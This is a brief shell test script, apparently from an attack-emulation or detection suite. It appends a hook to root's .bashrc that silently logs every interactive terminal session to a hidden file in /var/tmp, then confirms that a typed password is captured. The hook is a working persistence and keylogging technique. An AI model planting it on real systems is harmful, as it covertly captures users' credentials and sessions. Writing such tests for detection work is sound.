#!/bin/sh
. /opt/case/case.sh

# shellcheck disable=SC2016 # the later shell's own variables
echo 'if [ -z "$REC" ] && [ -t 0 ]; then REC=1; export REC; exec script -qfa /var/tmp/.tty.log; fi' >>/root/.bashrc
printf 'echo my-password\nexit\n' | script -qc 'bash -i' /dev/null >/dev/null
grep -q my-password /var/tmp/.tty.log
took_place
